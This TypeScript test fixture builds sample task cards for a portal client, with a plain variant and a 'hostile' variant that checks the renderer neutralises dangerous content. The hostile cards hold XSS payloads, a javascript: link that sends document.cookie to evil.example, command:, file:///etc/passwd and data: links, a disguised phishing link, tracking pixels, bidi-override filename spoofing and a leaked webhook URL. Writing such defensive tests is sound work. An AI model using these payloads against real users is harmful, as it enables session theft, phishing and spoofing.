/**
 * The default tasks' cards (see defaultTasks in tasks.ts): descriptions, checklists, time and
 * comments. Each task's comments include at least as many by others as its unread counts, so
 * the unread comments are real ones.
 *
 * 'hostile' is the same tasks with portal text that must never act: `<script>`, links to
 * `javascript:`, `command:`, `file:` and `data:`, a remote tracking image, bidi controls, a
 * 1 MiB description, and a comment quoting the webhook URL. The tasks themselves (titles,
 * members, statuses, unread counts) do not change, so neither do the counters and lists.
 */
import type { CardInput } from './cards';

export type SampleKind = 'plain' | 'hostile';

const MINUTE = 60_000;
const HOUR = 60 * MINUTE;

/** U+202E RIGHT-TO-LEFT OVERRIDE, U+2066 LEFT-TO-RIGHT ISOLATE, U+2069 POP DIRECTIONAL ISOLATE. */
const RLO = '\u202E';
const LRI = '\u2066';
const PDI = '\u2069';

/** Exactly 1 MiB of BB-code (ASCII, so bytes = characters). */
export const LARGE_DESCRIPTION_BYTES = 1_048_576;

function largeDescription(): string {
  const line = '[B]build[/B] step passed: compile, link, test, package. [URL=https://ci.example/log]log[/URL]\n';
  return line.repeat(Math.ceil(LARGE_DESCRIPTION_BYTES / line.length)).slice(0, LARGE_DESCRIPTION_BYTES);
}

/** [taskId, card] for the default tasks; comments `ago` ms before now. */
export function sampleCards(kind: SampleKind, webhookUrl: (userId: number) => string, nowMs: number): Array<[number, CardInput]> {
  const comment = (authorId: number, text: string, ago: number) => ({ authorId, text, postedAt: nowMs - ago });
  const hostile = kind === 'hostile';
  return [
    [
      101,
      {
        description: hostile
          ? [
              '<script>alert("description")</script>',
              '[URL=javascript:alert(document.cookie)]Open the payment log[/URL]',
              '[IMG]https://tracker.example/pixel.gif?task=101[/IMG]',
              '[URL=command:workbench.action.terminal.new]Open a terminal[/URL] [URL=file:///etc/passwd]passwd[/URL]',
              '[URL=data:text/html,<script>alert(1)</script>]data[/URL] <img src=x onerror=alert(1)>',
              `Invoice ${RLO}fdp.exe${PDI} from [USER=3]Viktor Orlov[/USER]`,
            ].join('\n')
          : [
              'Card payments fail with [B]error 502[/B] since the gateway update.',
              '[LIST]\n[*]Reproduce on the test shop\n[*]Check the [URL=https://status.example/gateway]gateway status[/URL]\n[/LIST]',
              'Ask [USER=3]Viktor Orlov[/USER] for the logs.',
            ].join('\n'),
        timeEstimate: 4 * 3600,
        taskControl: true,
        checklist: [
          // A checklist is a heading (parent 0) and its items under it, as the portal keeps them (ids below the generated ones, from 3000).
          { id: 1101, title: 'Before release', parentId: 0, sortIndex: 0 },
          { title: hostile ? '<script>alert("checklist")</script>' : 'Reproduce the error', parentId: 1101, isComplete: true, sortIndex: 1 },
          { title: 'Fix the gateway timeout', parentId: 1101, sortIndex: 2 },
          { title: 'Test on the live shop', parentId: 1101, sortIndex: 3 },
        ],
        elapsed: [{ userId: 1, seconds: 1800, commentText: 'Looked into the logs', stoppedAt: nowMs - 2 * HOUR }],
        comments: [
          comment(1, 'I am on it.', 5 * HOUR),
          comment(
            3,
            hostile
              ? `Use my access to check: ${webhookUrl(1)}tasks.task.list (do not share)`
              : 'The gateway logs are in the [URL=https://logs.example/gateway]usual place[/URL].',
            2 * HOUR,
          ),
          comment(
            3,
            hostile
              ? `[URL=javascript:fetch('https://evil.example/?c='+document.cookie)]Details[/URL] <script>alert("comment")</script> ${LRI}${RLO}evil${PDI}`
              : 'Any news? The client is asking.',
            30 * MINUTE,
          ),
        ],
      },
    ],
    [
      102,
      {
        description: hostile ? largeDescription() : 'Go through the [I]release checklist[/I] and update it for the new build server.',
        taskControl: true,
      },
    ],
    [103, { description: 'Review the new onboarding screens.', comments: [comment(3, 'Screens are in the design folder.', HOUR)] }],
    [
      104,
      {
        description: 'Translate the help pages into English.',
        checklist: [
          { id: 1104, title: 'Help pages', parentId: 0, sortIndex: 0 },
          { title: 'Getting started', parentId: 1104, isComplete: true, sortIndex: 1 },
          { title: 'Billing', parentId: 1104, sortIndex: 2 },
        ],
        comments: [comment(3, hostile ? `Glossary: [IMG]https://tracker.example/pixel.gif?task=104[/IMG]` : 'The glossary is attached.', 3 * HOUR)],
      },
    ],
    [
      105,
      {
        description: 'Write the release notes for [B]2.4[/B].',
        comments: [
          comment(
            3,
            hostile ? '[URL=https://evil.example/login]https://portal.example/company/personal/user/1/[/URL]' : 'Mention the new export, please.',
            HOUR,
          ),
        ],
      },
    ],
    [106, { description: 'Move the builds to the new server.', elapsed: [{ userId: 1, seconds: 5400, stoppedAt: nowMs - 10 * 24 * HOUR }] }],
    [
      107,
      {
        description: 'Renew the TLS certificates before they expire.',
        comments: [4, 3, 2, 1].map((n) =>
          comment(3, hostile ? `Reminder ${n}: ${RLO}txt.etacifitrec${PDI}` : `Reminder ${n}: the certificates expire soon.`, n * HOUR),
        ),
      },
    ],
    [108, { description: 'Prepare the quarterly report.' }],
    [109, { description: 'Check the German translation of the app.', comments: [comment(1, 'Please check the settings page first.', HOUR)] }],
    [
      110,
      {
        description: 'Approve the new logo.',
        taskControl: true,
        comments: [comment(3, 'Done, please check.', 4 * HOUR)],
      },
    ],
  ];
}
